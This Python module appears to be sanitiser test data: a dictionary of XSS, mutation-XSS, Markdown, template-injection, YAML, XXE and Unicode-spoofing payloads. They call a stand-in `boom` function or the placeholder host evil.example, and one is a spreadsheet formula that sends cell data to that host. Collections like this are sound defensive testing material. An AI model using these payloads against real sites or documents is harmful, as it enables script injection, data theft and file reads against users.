"""Strings that have run scripts, left a page or broken out of an attribute elsewhere.

The classes are those of OWASP's cheat sheets on filter evasion, of the test suites of sanitisers
(mutation after parsing, SVG, MathML), and of template, YAML and Markdown injection; the words are
ours. Each calls `boom`, or asks `evil.example` for something.
"""

# ruff: noqa: E501 (cases, one a line)

from __future__ import annotations

ATTACKS = {
    # Elements
    "script": "<script>boom('script')</script>",
    "script in odd case": "<ScRiPt >boom('case')</sCrIpT\n>",
    "script from elsewhere": '<script src="//evil.example/x.js"></script>',
    "script left open": "<script>boom('open')//",
    "script within script": "<scr<script>ipt>boom('within')</scr</script>ipt>",
    "event handler": "<img src=x onerror=boom('img')>",
    "event handler without spaces": "<svg/onload=boom('svg')>",
    "event handler after a form feed": "<img\x0csrc=x\x0conerror=boom('ff')>",
    "event handler of an open element": "<body onload=boom('body') <b",
    "event handler of focus": "<input autofocus onfocus=boom('focus')>",
    "event handler of a toggle": "<details open ontoggle=boom('toggle')>x</details>",
    "event handler of an animation": "<style>@keyframes x{}</style><p style='animation:x' "
    "onanimationstart=boom('animation')>x</p>",
    "frame": "<iframe srcdoc=\"<script>parent.boom('frame')</script>\"></iframe>",
    "frame with a script address": "<iframe src=javascript:parent.boom('src')></iframe>",
    "object": "<object data='data:text/html,<script>boom(1)</script>'></object><embed src=//evil.example>",
    "base": "<base href='https://evil.example/'>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><button autofocus>Go on</button></form>',
    "style": "<style>@import 'https://evil.example/x.css'; *{background:url(//evil.example/b)}</style>",
    "link": '<link rel=stylesheet href="https://evil.example/x.css"><link rel=preload as=image href=//evil.example/p>',
    "picture elsewhere": '<img src="https://evil.example/pixel.gif" srcset="//evil.example/2x 2x">',
    "named elements": "<img name=getElementById><form id=document><a id=location href=x></a></form>",
    # Out of an attribute, an element or a comment
    "out of double quotes": '" autofocus onfocus="boom(\'double\')" x="',
    "out of single quotes": "' autofocus onfocus='boom(`single`)' x='",
    "out of backticks": "`onmouseover=boom('tick')`",
    "out of a tag": "\"><svg onload=boom('tag')>",
    "out of the title": "</title><script>boom('title')</script>",
    "out of JSON-LD": '</script><script>boom("ld")</script>',
    "out of JSON": '"}],"x":"\\u003c/script\\u003e\\"<!--<script>',
    "out of a comment": "--><img src=x onerror=boom('comment')><!--",
    "out of a conditional comment": "<!--[if gte IE 4]><script>boom('if')</script><![endif]-->",
    "out of text areas": "</textarea></select></template></noscript></style><img src=x onerror=boom('out')>",
    "character data": "<![CDATA[<img src=x onerror=boom('cdata')>]]>",
    "processing": "<?xml version='1.0'?><?php boom('php') ?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hosts'>]>&e;",
    # Changed by being parsed twice
    "mutation in a noscript": "<noscript><p title='</noscript><img src=x onerror=boom(1)>'></p></noscript>",
    "mutation in MathML": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=boom(2)&gt;'>",
    "mutation in SVG": "<svg></p><style><a id='</style><img src=1 onerror=boom(3)>'>",
    "mutation of a form": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    "<img onerror=boom(4) src>'>",
    "mutation in a template": "<template><s><template><s><img src=x onerror=boom(5)>@</s></template></s></template>",
    "entities": "&lt;script&gt;boom('entity')&lt;/script&gt; &#60;img src=x onerror=boom(6)&#62;",
    "entities twice": "&amp;lt;img src=x onerror=boom(7)&amp;gt;",
    "full width": "＜script＞boom('wide')＜/script＞",
    # SVG and MathML
    "SVG animation": "<svg><a><animate attributeName=href values=javascript:boom(8) /><text y=9>go</text></a></svg>",
    "SVG use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a/></svg>#x'/></svg>",
    "SVG foreign": "<svg><foreignObject><iframe onload=boom(9)></iframe></foreignObject></svg>",
    "SVG script": "<svg><script href='//evil.example/x.js'/><script>boom(10)</script></svg>",
    "MathML link": "<math href='javascript:boom(11)'><mtext>go</mtext></math>",
    # Addresses
    "script address": "javascript:boom(12)",
    "script address in odd case": "JaVaScRiPt:boom(13)",
    "script address with a tab": "java\tscript:boom(14)",
    "script address with a line end": "java\nscript:boom(15)",
    "script address after a control": "\x01javascript:boom(16)",
    "script address after a space": " \u00a0javascript:boom(17)",
    "script address with entities": "&#x6A;&#97;vascript&colon;boom(18)",
    "script address, escaped": "javascript%3Aboom(19)",
    "script address after a comment": "javascript://evil.example/%0aboom(20)",
    "script address of old": "vbscript:boom(21)",
    "data address": "data:text/html;base64,PHNjcmlwdD5ib29tKDIyKTwvc2NyaXB0Pg==",
    "address without a scheme": "//evil.example/x",
    "address with backslashes": "\\\\evil.example\\x",
    "address of a file": "file:///etc/hosts",
    "address with a name": "https://good.example@evil.example/",
    # Markdown
    "Markdown link": "[go](javascript:boom(23))",
    "Markdown link with entities": "[go](&#106;avascript&colon;boom(24))",
    "Markdown link in angles": "[go](<javascript:boom(25)>)",
    "Markdown link with a tab": "[go](java&Tab;script:boom(26))",
    "Markdown link with a control": "[go](&#1;javascript:boom(27))",
    "Markdown link of data": "[go](data:text/html,<script>boom(28)</script>)",
    "Markdown link by reference": "[go][boom]\n\n[boom]: javascript:boom(29) 'x'",
    "Markdown link's title": "[go](https://good.example '\"onmouseover=boom(30) x=\"')",
    "Markdown autolink": '<javascript:boom(31)> <https://good.example/"onclick=boom(32)>',
    "Markdown picture": "![x](javascript:boom(33)) ![x](https://evil.example/pixel.png)",
    "Markdown picture's words": '![" onerror="boom(34)](x.png)',
    "Markdown picture in a link": "[![x](https://evil.example/p.png)](javascript:boom(35))",
    "Markdown picture out of the folder": "![x](../../../../etc/hosts.png) ![x](%2e%2e/x.png)",
    "Markdown code": '```"><script>boom(36)</script>\nx\n```',
    "Markdown code's language": '``` x"onmouseover=boom(37)//\n</code><script>boom(38)</script>\n```',
    "Markdown footnote": 'x[^"onclick=boom(39)]\n\n[^"onclick=boom(39)]: <script>boom(40)</script>',
    "Markdown heading": "## <img src=x onerror=boom(41)> {#x onclick=boom(42)}",
    "Markdown table": '| <script>boom(43)</script> |\n| :-:" onclick="boom(44) |\n| x |',
    "Markdown table's end": "x | y |\n\n<script>boom(45)</script>",
    "Markdown fence of YAML": "x\n---\ntitle: y\n---\n<script>boom(46)</script>",
    # Templates, YAML, other notations
    "Jinja expression": "{{ 7 * 191 }} {{ config.root }} {{ ''.__class__.__mro__ }}",
    "Jinja statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# x #}",
    "Jinja raw": "{% raw %}{% endraw %}{% include '../../../etc/hosts' %}{% extends 'x' %}",
    "other templates": "${7*191} #{7*191} <%= 7*191 %> {{=7*191}} [[7*191]] *{7*191}",
    "YAML tag": "!!python/object/apply:os.system ['touch boomed']",
    "YAML anchor": "&boom [*boom]",
    "YAML key": "x: y\nbase_url: https://evil.example/",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "format": "%s %n %(x)s {0} {what} {url} {config.root} $& $1 \\g<0>",
    "style expression": "expression(boom(47)) url(javascript:boom(48)) </style><b style='x:y'>",
    # Characters
    "bidirectional override": "Ada \u202eneroM yb nettirw\u202c \u2066x\u202e",
    "homoglyphs": "Аdа Моrеаu",
    "no width": "Ada\u200b \u200dMor\ufeffeau\u00ad",
    "tags": "Ada\U000e0041\U000e0042 Moreau",
    "marks": "A" + "\u0301" * 60 + "da",
    "separators": "Ada\u2028Moreau\u2029boom(49)\x85x",
    "no character": "Ada \ufffe\uffff Moreau",
    "long": "Ada" * 2000,
}
"""By what they try."""
